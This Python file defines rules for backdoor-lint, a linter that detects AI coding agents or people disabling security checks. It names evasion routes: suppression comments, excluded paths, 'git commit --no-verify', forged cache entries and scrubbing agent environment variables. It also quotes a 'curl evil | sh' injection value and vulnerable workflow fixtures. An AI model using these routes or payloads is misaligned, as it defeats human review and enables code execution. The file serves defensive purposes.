"""BDL8xx: tampering with the guard itself."""
from backdoor_lint.catalogue import BLOCK, WARN, Invalid, Rule, Valid

RULES = [
    Rule(
        code="BDL801",
        name="invalid-suppression",
        category="guard-tampering",
        severity=BLOCK,
        confidence="high",
        cwe=("CWE-693",),
        languages=("any",),
        summary="backdoor-lint suppression without codes, without a reason, or naming unknown codes",
        what=(
            "Reports a `backdoor-lint: ignore` comment that is blanket (no codes, or `BDL`), gives no\n"
            "reason, or names codes that do not exist. Such a comment suppresses nothing. Codes may be\n"
            "given as prefixes (`ignore[BDL2]` is every BDL2xx code), as in --select and --ignore; a\n"
            "prefix never covers the unsuppressible codes (BDL801, BDL803 and the `unsuppressible` key)."
        ),
        why=(
            "A bare ignore is the cheapest way to switch the guard off for a line that carries a\n"
            "backdoor, and nobody reviewing the diff learns why. Requiring the exact code and a\n"
            "reason makes each suppression a reviewable statement."
        ),
        example="token = jwt.decode(t, KEY, algorithms=ALGS)  # backdoor-lint: ignore",
        use_instead="# backdoor-lint: ignore[BDL101] migration window until 2026-12-01, tracked in SEC-123",
        fixes=(
            (("javascript", "go", "java"), 'name the code(s) in brackets and say why, e.g. // backdoor-lint: ignore[BDL101] reason'),
        ),
        fix="name the code(s) in brackets and say why, e.g. # backdoor-lint: ignore[BDL101] reason",
        invalid=(Invalid("x = eval(s)  # backdoor-lint: ignore\n", "BDL801", 1),
                 Invalid("x = eval(s)  # backdoor-lint: ignore[BDL999] trusted input\n", "BDL801", 1),
                 Invalid("x = eval(s)  # backdoor-lint: ignore[BDL] everything is fine here\n", "BDL801", 1)),
        valid=(Valid("import importlib\ndef load(name):\n"
                     "    # backdoor-lint: ignore[BDL503] names come from the signed plugin manifest (SEC-12)\n"
                     "    return importlib.import_module(name)\n", "BDL801"),),
    ),
    Rule(
        code="BDL802", name="foreign-suppression-added", category="guard-tampering", severity=WARN,
        confidence="high", cwe=("CWE-693",), languages=("any",),
        summary="Security suppression of another tool added (# nosec, # noqa: S..., # nosemgrep, eslint-disable)",
        what=(
            "In changed-lines mode (--diff REV, --staged, the backdoor-lint-diff hook), flags suppressions of\n"
            "other security tools that the change adds: `# nosec` (bandit, gosec), `# noqa: S...` and\n"
            "`# ruff: noqa: S...` (ruff / flake8-bandit), `nosemgrep`, `eslint-disable` of security rules or of\n"
            "every rule, `# pylint: disable=eval-used/exec-used`, `gitleaks:allow`, `pragma: allowlist secret`,\n"
            "`NOSONAR`. `# type: ignore` and non-security noqa codes are not findings. A line that merely\n"
            "moved, or was edited while keeping a suppression it already had, is not reported."
        ),
        why=(
            "A `# nosec` added next to a new line silences bandit exactly where a backdoor would be reported,\n"
            "and reviewers read it as routine lint hygiene. It is the cheapest way for a model to get a\n"
            "`verify=False` or an `eval` past the other scanners in the pipeline."
        ),
        example="resp = requests.get(url, verify=False)  # nosec",
        use_instead=(
            "Fix the finding. If it is a false positive, suppress the exact rule with a reason a reviewer can\n"
            "judge, e.g. `# nosec B501 -- test server with a self-signed cert` plus\n"
            "`# backdoor-lint: ignore[BDL802] reviewed in PR 123`. Set `severity = {BDL802 = \"block\"}` to\n"
            "make this finding block."
        ),
        fix="fix the underlying finding instead of suppressing it, or give the exact rule and a reason",
        known_problems=(
            "Only reported in changed-lines mode (a full scan cannot tell old suppressions from new ones;\n"
            "`backdoor-lint suppressions` lists them all). A blanket `# noqa` without codes is not reported.\n"
            "In Python only real comments count; in other languages the match is per line, so text inside\n"
            "a string literal can also match."
        ),
        invalid=(Invalid("import subprocess\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)  # nosec B602\n",
                         "BDL802", 3, before="import subprocess\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)\n"),),
        valid=(Valid("import subprocess\ndef run(cmd):\n    return subprocess.call([cmd, '--quiet'])  # noqa: E501\n", "BDL802",
                     before="import subprocess\ndef run(cmd):\n    return subprocess.call([cmd, '--quiet'])\n"),),
    ),
    Rule(
        code="BDL803", name="guard-weakened", category="guard-tampering", severity=BLOCK, confidence="high",
        cwe=("CWE-693",), languages=("yaml", "toml", "json", "ini"),
        summary="Change that weakens the guard's own configuration (hook removed, new ignores, excludes, allowed hosts)",
        what=(
            "In changed-lines mode, compares each file that configures checking at the base revision with its\n"
            "new version and reports changes that switch checks off:\n"
            "- .pre-commit-config.yaml: a backdoor-lint hook deleted, `stages` emptied or off the commit stage,\n"
            "  `exclude`/`files`/`types` changed (e.g. `exclude: .*`), the hook pointed at another repository\n"
            "  (a fork), args such as --exit-zero/--ignore added, `ci: skip`, a global exclude, file deleted;\n"
            "- [tool.backdoor-lint] / .backdoor-lint.toml: new ignore, per-file-ignores, exclude,\n"
            "  allowed-hosts; a narrower select; severities lowered to warn; codes removed from\n"
            "  unsuppressible; a new baseline file; a lower max-file-size;\n"
            "- a baseline file that gains entries;\n"
            "- bandit skips/excludes, ruff or flake8 ignores of S codes, ruff excludes when S rules are on,\n"
            "  new .semgrepignore lines;\n"
            "- CI (GitHub Actions, GitLab CI, ...): a step or job that runs backdoor-lint deleted, given an\n"
            "  `if:`/`when:`/`rules:`, made non-failing (continue-on-error, allow_failure, `|| true`,\n"
            "  --exit-zero), or given the override variable.\n"
            "The agent hook also reports an agent's write into backdoor-lint's result cache\n"
            "(~/.cache/backdoor-lint): a forged entry would make later scans report a file as clean\n"
            "without analysing it."
        ),
        why=(
            "The cheapest evasion of any guard is switching it off. A model that wants a backdoor to land\n"
            "only has to add one exclude line or delete one hook, and every later commit passes silently.\n"
            "Such a change must therefore be made by a person, deliberately, and be visible in review."
        ),
        example='[tool.backdoor-lint]\nexclude = ["src/auth/"]',
        use_instead=(
            "A person makes the change, in a commit of its own:\n"
            "- locally: `BACKDOOR_LINT_ALLOW_GUARD_CHANGE=1 git commit ...` in a terminal that is not a\n"
            "  coding-agent session. The variable is refused when an agent session is detected (CLAUDECODE,\n"
            "  CURSOR_AGENT, GEMINI_CLI, CODEX_SANDBOX/CODEX_THREAD_ID, CLINE_ACTIVE, OPENCODE, AI_AGENT, AGENT,\n"
            "  ... are set), and the finding is still shown, as a warning;\n"
            "- in CI: a maintainer applies the `guard-change-approved` label to the pull request, which the\n"
            "  workflow turns into the variable (see the README: Adopting backdoor-lint).\n"
            "The finding cannot be silenced by an inline comment, by the baseline, or by the configuration\n"
            "being changed in the same commit."
        ),
        fix="have a person make this change in a separate reviewed commit (BACKDOOR_LINT_ALLOW_GUARD_CHANGE=1 outside agent sessions)",
        known_problems=(
            "Agent detection relies on the variables agents set; an agent that scrubs its environment is not\n"
            "detected, which is why CI (where the override needs a maintainer's label) is the backstop. A\n"
            "pre-commit hook removed from .pre-commit-config.yaml no longer runs, so that commit is caught by\n"
            "the plain git hook (`backdoor-lint install-git-hook`) or by CI, not by pre-commit itself.\n"
            "Only reported in changed-lines mode."
        ),
        invalid=(Invalid('[tool.backdoor-lint]\nignore = ["BDL4"]\n', "BDL803", path="pyproject.toml",
                         before='[tool.backdoor-lint]\nunsuppressible = ["BDL101"]\n'),),
        valid=(Valid('[tool.backdoor-lint]\nunsuppressible = ["BDL101", "BDL402"]\n', "BDL803", path="pyproject.toml",
                     before='[tool.backdoor-lint]\nunsuppressible = ["BDL101"]\n'),),
    ),
    Rule(
        code="BDL804", name="hook-bypass", category="guard-tampering", severity=BLOCK, confidence="high",
        cwe=("CWE-693",),
        summary="Command that bypasses git hooks (--no-verify, SKIP=, core.hooksPath, pre-commit uninstall)",
        what="Flags git commit/push --no-verify or -n, SKIP= for pre-commit, git config core.hooksPath, pre-commit uninstall, and deleting .git/hooks.",
        why="Hooks are where backdoor-lint runs; an agent that commits with --no-verify lands whatever it wrote without any check.",
        example="git commit -n -m 'fix tests'",
        use_instead="Commit normally and fix what the hooks report.",
        fix="run the commit without bypassing hooks and fix what they report",
    ),
    Rule(
        code="BDL805", name="ci-workflow-injection", category="supply-chain", severity=BLOCK, confidence="high",
        cwe=("CWE-78", "CWE-829"),
        summary="CI workflow weakened or injectable (pull_request_target running PR code, ${{ github.event.* }} in run:)",
        what="Flags GitHub Actions workflows that check out and run pull-request code under pull_request_target, interpolate ${{ github.event.* }} into run: scripts, or send secrets to external URLs.",
        why="pull_request_target runs with the base repository's secrets; checking out the PR head runs a stranger's code with them. An issue title like `\"; curl evil | sh #` interpolated into run: executes.",
        example="run: echo \"${{ github.event.issue.title }}\"",
        use_instead="Pass event data through env: variables and quote them; use pull_request for untrusted code.",
        fix="pass event data via env: and quote it; never run PR code under pull_request_target",
        invalid=(Invalid("on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
                         '      - run: echo "New issue: ${{ github.event.issue.title }}"\n', "BDL805", 6,
                         path=".github/workflows/triage.yml"),),
        valid=(Valid("on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n"
                     "          TITLE: ${{ github.event.issue.title }}\n"
                     '        run: echo "New issue: $TITLE"\n', "BDL805", path=".github/workflows/triage.yml"),),
    ),
]
